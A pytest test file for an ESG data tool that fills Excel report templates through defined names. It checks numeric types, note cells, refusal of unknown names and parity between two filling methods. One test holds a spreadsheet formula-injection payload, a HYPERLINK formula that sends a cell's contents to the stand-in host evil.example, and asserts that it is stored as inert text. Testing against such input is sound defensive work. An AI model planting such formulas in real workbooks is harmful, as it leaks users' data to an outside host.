"""Filling a template through its defined names: numbers as numbers, text kept inert, notes beside figures."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from esgflow.catalog import Catalog
from esgflow.demo.group import DEMO_PEOPLE, demo_inputs
from esgflow.entities import EntityRegistry
from esgflow.periods import parse_period
from esgflow.workbooks.fill import fill_cells, fill_template
from esgflow.workbooks.naming import template_name
from esgflow.workbooks.returns import read_return
from esgflow.workbooks.template import TemplateRequest, write_template
from tests.workbook_view import workbook_view


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory, catalog: Catalog, registry: EntityRegistry) -> Path:
    path = tmp_path_factory.mktemp("fill") / "SAMI_2025.xlsx"
    write_template(path, TemplateRequest(registry["SAMI"], parse_period("2025"), {}, "esg1-test"), catalog)
    return path


def _cell(path: Path, name: str) -> Cell:
    wb = load_workbook(path)
    ((sheet, coord),) = wb.defined_names[name].destinations
    return wb[sheet][coord.replace("$", "")]


def test_values_go_into_the_cells_their_names_point_at(template: Path, tmp_path: Path) -> None:
    out = fill_template(
        template,
        tmp_path / "out" / "SAMI_2025.xlsx",
        {
            "env_diesel": Decimal("12327323.56"),
            "soc_employees_total": 123,
            "env_electricity": 0.5,
            "env_gasoline": "12,345",
        },
    )
    assert out == tmp_path / "out" / "SAMI_2025.xlsx" and out.is_file()
    diesel = _cell(out, "env_diesel")
    assert diesel.value == 12327323.56 and diesel.data_type == "n"
    assert _cell(out, "soc_employees_total").value == 123
    assert _cell(out, "env_electricity").value == 0.5
    assert (_cell(out, "env_gasoline").value, _cell(out, "env_gasoline").data_type) == ("12,345", "s")
    assert _cell(out, "env_natural_gas").value is None  # not named: left as it was


def test_figures_read_back_exactly(template: Path, tmp_path: Path, catalog: Catalog) -> None:
    values = {"env_diesel": Decimal("12327323.56"), "env_gasoline": Decimal("0.1"), "soc_employees_total": 10853}
    out = fill_template(template, tmp_path / "SAMI_2025.xlsx", values)
    reported = {r.code: r.value for r in read_return(out.read_bytes(), out.name, catalog).reported}
    assert {code: reported[code] for code in values} == {code: Decimal(v) for code, v in values.items()}


def test_text_that_looks_like_a_formula_stays_text(template: Path, tmp_path: Path) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    out = fill_template(template, tmp_path / "SAMI_2025.xlsx", {"env_diesel": attack}, {"env_gasoline": "@SUM(A1:A9)"})
    for name, text in (("env_diesel", attack), ("env_gasoline__note", "@SUM(A1:A9)")):
        cell = _cell(out, name)
        assert (cell.value, cell.data_type) == (text, "s"), name


def test_notes_go_into_the_note_cells(template: Path, tmp_path: Path) -> None:
    out = fill_template(template, tmp_path / "SAMI_2025.xlsx", {"env_diesel": 5}, {"env_diesel": "新增运输车辆"})
    assert _cell(out, "env_diesel__note").value == "新增运输车辆"
    diesel_row = _cell(out, "env_diesel").row
    assert _cell(out, "env_diesel__note").row == diesel_row


def test_none_empties_a_cell(template: Path, tmp_path: Path) -> None:
    first = fill_template(template, tmp_path / "a" / "SAMI_2025.xlsx", {"env_diesel": 5})
    again = fill_template(first, tmp_path / "b" / "SAMI_2025.xlsx", {"env_diesel": None})
    assert _cell(first, "env_diesel").value == 5 and _cell(again, "env_diesel").value is None


@pytest.mark.parametrize(
    ("values", "notes", "missing"),
    [({"env_unknown": 1}, None, "env_unknown"), ({"env_diesel": 1}, {"env_unknown": "x"}, "env_unknown__note")],
)
def test_a_name_the_template_lacks_is_refused_and_nothing_written(
    template: Path, tmp_path: Path, values: dict[str, int], notes: dict[str, str] | None, missing: str
) -> None:
    before = template.read_bytes()
    with pytest.raises(KeyError, match=f"SAMI_2025.xlsx has no defined name {missing}"):
        fill_template(template, tmp_path / "out" / "SAMI_2025.xlsx", values, notes)
    assert not (tmp_path / "out").exists()
    assert template.read_bytes() == before


def test_the_template_itself_is_left_as_it_was(template: Path, tmp_path: Path) -> None:
    before = template.read_bytes()
    fill_template(template, tmp_path / "SAMI_2025.xlsx", {"env_diesel": 5}, {"env_diesel": "note"})
    assert template.read_bytes() == before
    assert _cell(template, "env_diesel").value is None


@pytest.fixture(scope="module")
def demo_templates(tmp_path_factory: pytest.TempPathFactory, catalog: Catalog, registry: EntityRegistry) -> Path:
    """The 2024 templates of an entity of four kinds, Chinese and English, with last year's figures."""
    folder = tmp_path_factory.mktemp("demo-templates")
    period = parse_period("2024")
    prior = demo_inputs(catalog, registry, period)  # figures of the size last year's would be
    for code in FOUR:
        request = TemplateRequest(registry[code], period, prior[code], "esg1-test")
        write_template(folder / template_name(code, period), request, catalog)
    return folder


FOUR = ("HQ", "NFC6", "BR-LY", "OS-HK")  # headquarters, construction, branch; OS-HK's template is in English


@pytest.mark.parametrize("code", FOUR)
def test_filling_without_loading_gives_the_workbook_openpyxl_gives(
    code: str, demo_templates: Path, tmp_path: Path, catalog: Catalog, registry: EntityRegistry
) -> None:
    """The demo's replies (issue 30, goal 4): patching the named cells gives what loading, filling and saving
    the template with openpyxl gives, to every cell, style, validation and name, and the return reads the same."""
    period = parse_period("2024")
    values: dict[str, Decimal | int | float | str | None] = {**DEMO_PEOPLE}
    values |= demo_inputs(catalog, registry, period)[code]
    values["meta_preparer"] = " 张明 & <Zhang> "  # escaped, its spaces kept
    template = demo_templates / template_name(code, period)
    slow, fast = tmp_path / "openpyxl" / template.name, tmp_path / "patched" / template.name
    fill_template(template, slow, values)
    fill_cells(template, fast, values)
    assert workbook_view(fast) == workbook_view(slow)
    assert read_return(fast.read_bytes(), fast.name, catalog) == read_return(slow.read_bytes(), slow.name, catalog)
    assert len(read_return(fast.read_bytes(), fast.name, catalog).reported) > 10


def test_filling_without_loading_leaves_what_only_openpyxl_writes_to_it(template: Path, tmp_path: Path) -> None:
    """A text that looks like a formula needs openpyxl's quote prefix; a None empties the cell either way."""
    values: dict[str, Decimal | int | float | str | None] = {"env_diesel": "=1+1", "env_gasoline": None}
    fill_template(template, tmp_path / "a" / "x.xlsx", values)
    fill_cells(template, tmp_path / "b" / "x.xlsx", values)
    assert workbook_view(tmp_path / "b" / "x.xlsx") == workbook_view(tmp_path / "a" / "x.xlsx")
    assert _cell(tmp_path / "b" / "x.xlsx", "env_diesel").quotePrefix
    with pytest.raises(KeyError, match="no defined name nope"):
        fill_cells(template, tmp_path / "c.xlsx", {"nope": 1})
